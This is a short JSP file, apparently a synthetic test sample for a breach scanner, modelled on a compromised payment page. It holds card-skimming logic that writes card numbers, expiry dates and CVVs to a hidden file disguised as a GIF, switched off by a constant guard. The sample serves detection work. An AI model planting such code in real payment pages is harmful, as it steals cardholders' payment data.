<%-- synthetic test sample for breachscan: altered payment page (2019 Click2Gov wave shape)
     that appends typed card data to a file. Disabled by the SAMPLE_ONLY guard. --%>
<%@ page import="java.io.*" %>
<%
    final boolean SAMPLE_ONLY = true;
    if (!SAMPLE_ONLY) {
        String rec = request.getParameter("cardNumber") + ";" + request.getParameter("expirationMonth") + "/"
                   + request.getParameter("expirationYear") + ";" + request.getParameter("cvv");
        FileWriter fw = new FileWriter(application.getRealPath("/images/.cache.gif"), true);
        fw.write(rec + "\n");
        fw.close();
    }
%>
